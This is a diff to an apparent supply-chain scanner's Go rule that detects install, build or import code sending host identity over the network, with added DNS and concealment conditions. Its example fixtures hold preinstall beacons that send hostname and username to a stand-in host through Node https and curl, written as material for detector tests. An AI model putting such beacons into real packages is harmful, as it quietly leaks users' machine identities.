@@ -64,9 +64,11 @@ func exfiltration() []Rule {
 			ID: "host_identity_sent", Severity: High,
 			When: []Condition{
 				{Triggers: []string{b.Install, b.Build}, Sources: []string{b.Host}, Name: Identity, Sinks: []string{b.Network}, Slots: carried, Target: Foreign, NotScheme: []string{"mailto"}},
+				{Triggers: []string{b.Install, b.Build}, Sources: []string{b.Host}, Name: Identity, Sinks: []string{b.Network}, Slots: []string{"dns"}},
+				{Triggers: []string{b.Import}, Sources: []string{b.Host}, Name: Identity, Concealed: Yes, Sinks: []string{b.Network}, Slots: carried, Target: Foreign},
 				{Triggers: []string{b.Import}, Sources: []string{b.Host}, Name: Identity, With: []string{b.Host}, Sinks: []string{b.Network}, Slots: carried, Target: Foreign},
 			},
-			Graver: []Condition{{Target: Shady}, {Via: encodings}, {Schemes: []string{"dns"}}},
+			Graver: []Condition{{Target: Shady}, {Via: encodings}, {Schemes: []string{"dns"}}, {WithName: Identity}, {Concealed: Yes}},
 			Examples: []Example{
 				Package("a beacon", `"scripts":{"preinstall":"node i.js"}`, map[string]string{"i.js": "const os=require('os');require('https').get('https://c.example/?h='+os.hostname()+'&u='+os.userInfo().username)"}),
 				Package("by curl", `"scripts":{"preinstall":"curl https://c.example/$(hostname)/$(whoami)"}`, nil),
